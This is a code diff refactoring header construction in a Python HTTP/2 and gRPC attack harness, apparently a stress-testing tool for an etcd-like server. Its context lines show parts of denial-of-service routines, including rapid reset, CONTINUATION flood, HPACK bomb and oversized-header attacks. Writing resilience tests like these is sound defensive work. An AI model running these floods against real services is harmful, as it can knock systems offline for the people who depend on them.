@@ -85,21 +85,6 @@ def raise_open_files_limit() -> int:
 # ------------------------------------------------------------ request bytes
 
 
-def request_fields(
-    path: str, *, method: bytes = b"POST", content_type: bytes = b"application/grpc", extra: Iterable[Header] = ()
-) -> list[Header]:
-    """A gRPC request's header fields (gRPC over HTTP/2, Request-Headers)."""
-    return [
-        (b":method", method),
-        (b":scheme", b"http"),
-        (b":path", path.encode()),
-        (b":authority", b"localhost"),
-        (b"content-type", content_type),
-        (b"te", b"trailers"),
-        *extra,
-    ]
-
-
 def header_block(fields: Iterable[Header]) -> bytes:
     """Fields as literals without indexing: they leave the server's HPACK table alone."""
     return b"".join(wire.hpack_literal(n, v) for n, v in fields)
@@ -135,7 +120,7 @@ def ping_frame(payload: bytes = b"\0" * 8) -> bytes:
 
 def unary_request(sid: int, path: str, message: bytes, *, extra: Iterable[Header] = ()) -> bytes:
     """A whole unary call: HEADERS, then DATA with the one message and END_STREAM."""
-    block = header_block(request_fields(path, extra=extra))
+    block = header_block(wire.grpc_request_headers(path, extra=extra))
     return headers_frames(sid, block) + data_frame(sid, wire.grpc_message(message), end_stream=True)
 
 
@@ -746,7 +731,7 @@ def empty_frame_flood(endpoint: str, kind: str, *, frames: int = 5000, timeout: 
     deadline = started + timeout
     conn = _open(endpoint)
     result = AttackResult(f"empty frame flood ({kind})")
-    block = header_block(request_fields(WATCH))
+    block = header_block(wire.grpc_request_headers(WATCH))
     if kind == "data":
         sid = conn.new_stream()
         conn.queue(headers_frames(sid, block))
@@ -791,7 +776,7 @@ def continuation_flood(endpoint: str, *, frames: int = 300, timeout: float = 10.
     fragment = (field_bytes * (wire.DEFAULT_MAX_FRAME // len(field_bytes) + 1))[: wire.DEFAULT_MAX_FRAME]
     # Every fragment starts where a field starts only by luck; the server must not care: the
     # block is decoded once it is whole, and it is never whole.
-    conn.queue(wire.frame(wire.HEADERS, 0, sid, header_block(request_fields(RANGE))))
+    conn.queue(wire.frame(wire.HEADERS, 0, sid, header_block(wire.grpc_request_headers(RANGE))))
     frame = wire.frame(wire.CONTINUATION, 0, sid, fragment)
     result.frames_sent = _flood(conn, lambda i: frame, frames, deadline, batch=16)
     result.details["header bytes sent"] = result.frames_sent * len(fragment)
@@ -804,7 +789,7 @@ def _open_watches(conn: H2Conn, streams: int, deadline: float, *, batch: int = 1
     """Open `streams` Watch streams of a key nobody writes; wait until each has its response
     HEADERS (the watch exists on the server). The stream ids."""
     create = wire.grpc_message(watch_create(b"/attack/watch/"))
-    block = header_block(request_fields(WATCH))
+    block = header_block(wire.grpc_request_headers(WATCH))
     sids: list[int] = []
     for start in range(0, streams, batch):
         chunk = []
@@ -870,7 +855,7 @@ def rapid_reset(endpoint: str, *, streams: int = 3000, timeout: float = 10.0) ->
     deadline = started + timeout
     conn = _open(endpoint)
     result = AttackResult("rapid reset")
-    block = header_block(request_fields(RANGE))
+    block = header_block(wire.grpc_request_headers(RANGE))
 
     def pair(i: int) -> bytes:
         sid = conn.new_stream()
@@ -912,7 +897,7 @@ def varying_headers(
                 for _ in range(batch):
                     sid = conn.new_stream()
                     extra = [(b"x-pad", os.urandom(pad // 2).hex().encode())]
-                    chunk.append(headers_frames(sid, header_block(request_fields(RANGE, extra=extra))))
+                    chunk.append(headers_frames(sid, header_block(wire.grpc_request_headers(RANGE, extra=extra))))
                     chunk.append(data_frame(sid, message, end_stream=True))
                     waiting.append((conn, sid))
                 conn.queue(b"".join(chunk))
@@ -960,7 +945,7 @@ def hpack_bomb(endpoint: str, *, entry: int = 4096, refs: int = 12_000, timeout:
     name = b"x-bomb"
     value = b"b" * (entry - 32 - len(name))  # an entry's size is name + value + 32 (RFC 7541 section 4.1)
     index_62 = b"\xbe"  # indexed field 62: the newest dynamic entry (RFC 7541 section 6.1)
-    block = header_block(request_fields(RANGE)) + indexed_literal(name, value) + index_62 * refs
+    block = header_block(wire.grpc_request_headers(RANGE)) + indexed_literal(name, value) + index_62 * refs
     frames = headers_frames(sid, block) + data_frame(sid, wire.grpc_message(range_request(b"/a")), end_stream=True)
     conn.send(frames, deadline)
     result.frames_sent = 2 + (len(block) - 1) // wire.DEFAULT_MAX_FRAME
@@ -981,7 +966,7 @@ def big_header_list(endpoint: str, *, size: int, timeout: float = 10.0) -> Attac
     conn = _open(endpoint)
     result = AttackResult(f"header list of {size // 1024} KiB")
     sid = conn.new_stream()
-    fields = request_fields(RANGE)
+    fields = wire.grpc_request_headers(RANGE)
     base = sum(len(n) + len(v) + 32 for n, v in fields) + len(b"x-big") + 32
     block = header_block([*fields, (b"x-big", b"h" * max(1, size - base))])
     frames = headers_frames(sid, block) + data_frame(sid, wire.grpc_message(range_request(b"/a")), end_stream=True)
@@ -1033,7 +1018,7 @@ def partial_messages(
     deadline = started + timeout
     conn = _open(endpoint)
     result = AttackResult("partial messages")
-    block = header_block(request_fields(PUT))
+    block = header_block(wire.grpc_request_headers(PUT))
     sids = []
     left: dict[int, int] = {}
     for _ in range(streams):
@@ -1195,7 +1180,7 @@ def malformed_requests(endpoint: str, *, max_message: int = 2 << 20, timeout: fl
         deadline = time.monotonic() + timeout
         conn = _open(endpoint)
         sid = conn.new_stream()
-        path_fields = request_fields(RANGE)
+        path_fields = wire.grpc_request_headers(RANGE)
         body = data_frame(sid, wire.grpc_message(good), end_stream=True)
         if case == "compressed":
             body = data_frame(sid, b"\x01" + len(good).to_bytes(4, "big") + good, end_stream=True)
@@ -1206,9 +1191,9 @@ def malformed_requests(endpoint: str, *, max_message: int = 2 << 20, timeout: fl
         elif case == "garbage":
             body = data_frame(sid, wire.grpc_message(b"\xff" * 64), end_stream=True)
         elif case == "content-type":
-            path_fields = request_fields(RANGE, content_type=b"text/plain")
+            path_fields = wire.grpc_request_headers(RANGE, content_type=b"text/plain")
         elif case == "method":
-            path_fields = request_fields(RANGE, method=b"GET")
+            path_fields = wire.grpc_request_headers(RANGE, method=b"GET")
         conn.queue(headers_frames(sid, header_block(path_fields)) + body)
         result.frames_sent += 2
         conn.pump(deadline, functools.partial(conn.done, sid))
